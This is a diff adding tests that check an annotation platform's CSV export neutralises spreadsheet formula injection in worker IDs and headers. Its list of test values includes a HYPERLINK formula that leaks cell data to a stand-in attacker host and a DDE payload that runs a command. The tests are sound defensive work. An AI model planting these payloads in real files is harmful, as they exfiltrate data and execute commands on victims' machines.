@@ -240,3 +240,43 @@ def test_every_row_says_whether_its_item_is_a_task_or_gold():
     assert {r["item"] for r in rows if r["role"] == "gold"} == gold
     assert sorted(r["role"] for r in csv_rows) == ["gold", "task", "task"]
     assert Judgment.objects.filter(campaign=c, item__role="gold").count() == 1
+
+
+# Issue 23, finding 3: no cell of a CSV export is a spreadsheet formula ----------------------
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"open")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1-1",
+    "@A1",
+    "\tstart",
+    "\rstart",
+]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_a_staff_csv_neutralises_a_platform_id_that_is_a_formula(client, value):
+    c = judged_campaign(1)
+    assignment = c.assignments.exclude(worker=None).first()
+    Worker.objects.filter(pk=assignment.worker_id).update(provider="mturk", external_id=value)
+    response = staff_client(client).get(
+        reverse("annotation:manage-campaign-export-csv", args=[c.slug])
+    )
+    assert response.status_code == 200
+    [line] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert line["platform_worker_id"] == "'" + value
+    # The stored id is left as it came; only the file a spreadsheet opens is neutralised.
+    assert Worker.objects.get(pk=assignment.worker_id).external_id == value
+
+
+def test_numbers_stay_numbers_and_plain_text_is_untouched():
+    rows = [{"score": -1.5, "delta": -2, "note": "fine - really", "empty": None}]
+    [line] = list(csv.DictReader(io.StringIO("".join(export.csv_lines(rows)))))
+    assert line == {"score": "-1.5", "delta": "-2", "note": "fine - really", "empty": ""}
+
+
+def test_a_header_that_is_a_formula_is_neutralised_too():
+    text = "".join(export.csv_lines([{"=SUM(A1)": "x"}]))
+    assert text.splitlines()[0] == "'=SUM(A1)"
